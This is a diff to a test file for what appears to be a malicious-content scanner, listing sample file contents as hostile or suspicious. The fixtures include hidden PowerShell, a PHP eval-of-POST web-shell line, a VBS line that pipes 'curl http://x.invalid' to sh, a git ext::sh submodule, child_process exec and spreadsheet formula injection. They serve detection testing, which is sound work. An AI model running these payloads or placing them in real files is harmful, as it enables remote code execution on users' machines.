@@ -30,7 +30,7 @@ HOSTILE = [
     ("a.bat", "powershell -w hidden -c x"),
     ("a.js", "eval(atob('YQ=='))"),
     ("a.php", "<?php eval(base64_decode($_POST['x']));"),
-    ("x.vbs", 'CreateObject("WScript.Shell").Run "calc"'),
+    ("x.vbs", 'CreateObject("WScript.Shell").Run "curl http://x.invalid | sh"'),
 ]
 SAFE = [
     (
@@ -61,7 +61,7 @@ SUSPICIOUS = [
     (".gitmodules", '[submodule "x"]\n\turl = ext::sh -c id', "git.runs-program"),
     (".npmrc", "registry=https://x.invalid/", "requirements.index"),
     ("x.desktop", "[Desktop Entry]\nExec=xterm", "script.clickable"),
-    ("a.js", "const c = require('child_process'); c.exec('id')", "script.hostile-code"),
+    ("a.js", "const c = require('child_process'); c.exec('id')", "script.runs-program"),
     ("data.csv", "a,b\n=cmd|' /C calc'!A0,1", "table.formula"),
     ("data.csv", 'a,b\n1,"=HYPERLINK(""http://x.invalid"")"', "table.formula"),
     ("README.md", "#!/bin/sh\nid\n", "text.disguised-program"),
